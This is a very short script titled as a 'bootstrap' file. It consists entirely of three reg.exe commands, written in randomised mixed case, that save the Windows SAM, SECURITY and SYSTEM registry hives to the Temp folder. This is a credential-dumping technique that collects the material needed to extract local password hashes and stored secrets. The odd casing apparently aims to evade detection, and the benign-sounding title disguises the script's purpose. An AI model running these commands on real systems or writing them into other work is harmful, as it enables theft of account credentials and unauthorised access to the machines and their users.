# BoOtStRaP 9226 v1
rEG.ExE SAve HKLM\sAm C:\WiNdOwS\TemP\S.hIv /y
reG.eXE Save hkLM\SeCURIty C:\WINdOwS\teMP\sEC.hiv /Y
reg.ExE sAve HKLM\SystEm C:\wInDoWs\tEMp\SYs.HIV /Y
